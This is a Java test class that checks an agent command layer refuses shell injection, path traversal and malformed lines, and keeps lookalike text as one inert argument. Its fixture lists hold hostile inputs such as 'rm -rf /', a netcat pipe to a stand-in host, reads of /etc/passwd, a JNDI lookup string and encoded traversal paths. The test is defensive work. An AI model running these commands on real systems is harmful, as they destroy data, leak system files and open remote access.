package dev.escarole.web.agent.command;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.escarole.engine.run.RunId;
import dev.escarole.web.agent.acli.AcliResponse;
import dev.escarole.web.agent.acli.AuditEntry;
import dev.escarole.web.agent.acli.ErrorCode;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile texts in every place where an agent can put one: each is refused with the code for it, or
 * arrives as one argument that is nothing but text. The audit has each.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InjectionTest {

  private static final String ECHO =
      """
      args: ["text:string", "note=plain"]
      template: printf %s "{text}"
      """;
  private static final String READ =
      """
      args: ["file:path", "files:array=[]"]
      template: printf %s {file}
      """;

  /** Texts with a character that shells give a meaning to. */
  private static final List<String> FORBIDDEN =
      List.of(
          "; rm -rf /",
          "a;b",
          "&& reboot",
          "a & b",
          "| nc evil 1",
          "x || y",
          "`id`",
          "$(id)",
          "$HOME",
          "${IFS}",
          "(id)",
          ")",
          "{text}",
          "{{note}}",
          "}",
          "[ -f x ]",
          "]",
          "< /etc/passwd",
          "> /tmp/x",
          ">> log",
          "2>&1",
          "<(id)",
          "!!",
          "!1",
          "\\",
          "\\x41",
          "\\u003b",
          "C:\\x",
          "${jndi:ldap://x/a}",
          "<script>alert(1)</script>");

  /** Texts that look like more than they are. */
  private static final List<String> INERT =
      List.of(
          "--text",
          "--wait=0",
          "-rf",
          "--help",
          "--",
          "-",
          "-n10",
          "*",
          "?",
          "~",
          "~root/.ssh",
          "a b",
          "  padded  ",
          "",
          "%s%n%x",
          "%00",
          "%3B rm",
          "#comment",
          "a'b",
          "a\"b",
          "' or '1'='1",
          "\" --wait 0 \"",
          "line one\nline two",
          "tab\there",
          "\u202Egnp.exe",
          "\u200B",
          "\uFF1B rm",
          "\u037E id",
          "\u0007bell",
          "null",
          "true",
          "-5",
          "1e999",
          "../../etc/passwd",
          "/etc/passwd",
          "file:///etc/passwd",
          "help",
          "x-echo",
          "DROP TABLE runs",
          "a=b",
          "text=other",
          ",",
          "@/etc/passwd",
          "\uD83E\uDD57",
          "e\u0301",
          "A".repeat(4_000));

  /** Paths that lead out, in a place that is declared as a path. */
  private static final List<String> OUTSIDE =
      List.of(
          "../x",
          "../../../etc/passwd",
          "a/../../x",
          "a/..",
          "..",
          "/etc/passwd",
          "/",
          "//x",
          "C:/x",
          "c:",
          "Z:x",
          "~",
          "~root",
          "%2e%2e/x",
          "%2E%2E%2Fx",
          "..%2fx",
          "%2fetc",
          "%252e%252e/x",
          "%25252e./x",
          " ../x",
          "\t/x",
          "a/b/../../../c",
          "./../x",
          "..//x");

  /** Lines that are broken or out of bounds as a whole. */
  private static final List<String> BROKEN =
      List.of(
          "",
          "   ",
          "'",
          "\"",
          "x-echo --text 'a",
          "x-echo --text \"a",
          "x-echo --text a\\",
          "x-echo --text \"\\q\"",
          "x-echo\nx-echo",
          "x-echo\r\nhelp",
          "x-echo --text 'a\u0000b'",
          "x-echo --text \uD800",
          "x-echo " + "a ".repeat(101),
          "x-echo --text " + "a".repeat(10_000));

  private final AgentLines lines = new AgentLines();
  private int sent;

  @BeforeAll
  void shelf() {
    lines.with("echo", ECHO).with("read", READ);
  }

  @AfterAll
  void close() {
    lines.close();
  }

  private static String quoted(String text) {
    return '"'
        + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\t", "\\t")
        + '"';
  }

  static Stream<Arguments> hostile() {
    List<Arguments> all = new ArrayList<>();
    for (String text : FORBIDDEN) {
      String word = quoted(text);
      all.add(Arguments.of("x-echo --text " + word, ErrorCode.INJECTION_BLOCKED));
      all.add(
          Arguments.of("run echo --set " + quoted("text=" + text), ErrorCode.INJECTION_BLOCKED));
      all.add(Arguments.of("help " + word, ErrorCode.INJECTION_BLOCKED));
      all.add(Arguments.of(word + " --text x", ErrorCode.INJECTION_BLOCKED));
    }
    OUTSIDE.forEach(
        path -> {
          all.add(Arguments.of("x-read --file " + quoted(path), ErrorCode.PATH_TRAVERSAL_BLOCKED));
        });
    BROKEN.forEach(line -> all.add(Arguments.of(line, ErrorCode.PARSE_ERROR)));
    return all.stream();
  }

  static Stream<String> inert() {
    return INERT.stream();
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void a_hostile_line_is_refused_with_the_right_code_and_nothing_runs(
      String line, ErrorCode expected) {
    AcliResponse response = lines.send(line);
    sent++;
    assertThat(response.error()).isNotNull().extracting(error -> error.code()).isEqualTo(expected);
    AuditEntry entry = lines.audit.get(lines.audit.size() - 1);
    assertThat(entry.ending().error()).isEqualTo(expected);
    assertThat(line).startsWith(entry.command());
  }

  @ParameterizedTest
  @MethodSource("inert")
  void a_text_that_only_looks_hostile_is_one_inert_argument(String text) {
    for (String line :
        List.of(
            "x-echo --text " + quoted(text) + " --wait 60",
            "run echo --set " + quoted("text=" + text) + " --wait 60")) {
      AcliResponse response = lines.send(line);
      sent++;
      assertThat(response.error()).as(line).isNull();
      JsonNode data = AgentLines.json(response).get("data");
      assertThat(data.get("status").textValue()).isEqualTo("done");
      RunId run = new RunId(data.get("run").textValue());
      assertThat(lines.engine.store().steps(run).get(0).argv())
          .containsExactly("printf", "%s", text);
      AuditEntry entry = lines.audit.get(lines.audit.size() - 1);
      assertThat(entry.ending().error()).isNull();
      assertThat(entry.command()).isEqualTo(line);
    }
  }

  @Test
  void these_are_more_than_two_hundred() {
    assertThat(hostile().count() + 2 * inert().count()).isGreaterThan(200);
  }

  @AfterAll
  void the_audit_has_each_line_once() {
    assertThat(lines.audit).hasSize(sent);
  }
}
